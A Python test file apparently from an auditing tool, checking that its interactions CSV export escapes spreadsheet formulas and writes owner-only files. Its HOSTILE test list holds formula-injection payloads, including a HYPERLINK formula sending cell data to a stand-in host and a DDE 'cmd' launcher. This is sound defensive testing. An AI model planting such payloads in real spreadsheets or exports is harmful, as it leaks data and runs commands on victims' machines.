"""Case 13 of the hardening issue: the interactions CSV export never hands a spreadsheet a
formula, as the findings CSV already did not."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest
from sqlalchemy.orm import Session

from auditor.fileio import spreadsheet_safe
from auditor.ingest.export import export_interactions
from auditor.ingest.stage import ingest_paths
from tests.conftest import chat_record, write_jsonl

HOSTILE = [
    '=HYPERLINK("http://x.example/?q="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(value: str, cell: str) -> None:
    assert spreadsheet_safe(value) == cell


def test_case_13_interactions_csv_export_prefixes_formulas(
    session: Session, tmp_path: Path
) -> None:
    records = [
        chat_record(f"e{n}", text, when=f"2026-10-0{n + 1}T08:00:00Z")
        for n, text in enumerate(HOSTILE)
    ]
    logs = [write_jsonl(tmp_path / "l.jsonl", records)]
    ingest_paths(session, logs, "openai-chat", max_line_bytes=1 << 20)
    out = tmp_path / "out.csv"
    assert export_interactions(session, out, "csv") == len(HOSTILE)
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    cells = [value for row in rows for value in row.values() if value]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert sorted(r["prompt_text"] for r in rows) == sorted("'" + t for t in HOSTILE)


def test_export_replaces_a_wider_leftover_file_owner_only(session: Session, tmp_path: Path) -> None:
    out = tmp_path / "export" / "out.csv"
    out.parent.mkdir()
    out.write_text("old")
    os.chmod(out, 0o644)
    assert export_interactions(session, out, "csv") == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert [p.name for p in out.parent.iterdir()] == ["out.csv"]
